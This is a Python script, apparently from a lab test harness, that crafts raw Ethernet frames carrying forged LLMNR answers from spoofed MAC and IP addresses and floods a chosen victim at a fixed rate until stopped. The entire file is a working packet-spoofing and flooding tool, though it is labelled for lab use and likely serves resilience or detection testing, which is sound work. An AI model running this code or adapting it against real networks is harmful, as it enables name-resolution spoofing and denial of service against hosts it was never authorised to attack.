#!/usr/bin/env python3
"""A flood of forged LLMNR answers, for the lab only (scripts/lab/scenarios.py, mode
`responder-flood`): every frame an answer for a new name from a new source (MAC and address),
sent to the victim at a steady rate through a raw socket, until SIGTERM or SIGINT; then writes how
many it sent.

    flood.py --iface IF --dst-mac MAC --dst IP --prefix 198.18.0 --pps N --count-file F
"""
import argparse
import signal
import socket
import struct
import time


def answer(i, dst_mac, dst_ip, prefix):
    """Ethernet + IPv4 + UDP 5355 + an LLMNR answer for `n<i>` giving the source's address."""
    src_mac = bytes([0x02, 0xf1, (i >> 24) & 0xff, (i >> 16) & 0xff, (i >> 8) & 0xff, i & 0xff])
    src_ip = socket.inet_aton(f"{prefix}.{100 + i % 150}")
    name = b"n%06x" % i
    qname = bytes([len(name)]) + name + b"\x00"
    dns = struct.pack("!HHHHHH", i & 0xffff, 0x8000, 1, 1, 0, 0) + qname + b"\x00\x01\x00\x01"
    dns += b"\xc0\x0c\x00\x01\x00\x01" + struct.pack("!IH", 30, 4) + src_ip
    udp = struct.pack("!HHHH", 5355, 50000 + i % 1000, 8 + len(dns), 0) + dns
    total = 20 + len(udp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, i & 0xffff, 0, 64, 17, 0, src_ip, socket.inet_aton(dst_ip))
    s = sum(struct.unpack("!10H", ip))
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    ip = ip[:10] + struct.pack("!H", ~s & 0xffff) + ip[12:]
    return bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00" + ip + udp


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", default="eth0")
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--prefix", required=True, help="the first three octets of the sources' addresses")
    p.add_argument("--pps", type=int, default=60000)
    p.add_argument("--count-file", required=True)
    a = p.parse_args()
    frames = [answer(i, a.dst_mac, a.dst, a.prefix) for i in range(1, 4097)]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
    sent, start, batch = 0, time.monotonic(), 64
    while not stop:
        for _ in range(batch):
            try:
                s.send(frames[sent % len(frames)])
                sent += 1
            except OSError:
                time.sleep(0.001)
        ahead = sent / a.pps - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    open(a.count_file, "w").write(str(sent))


if __name__ == "__main__":
    main()
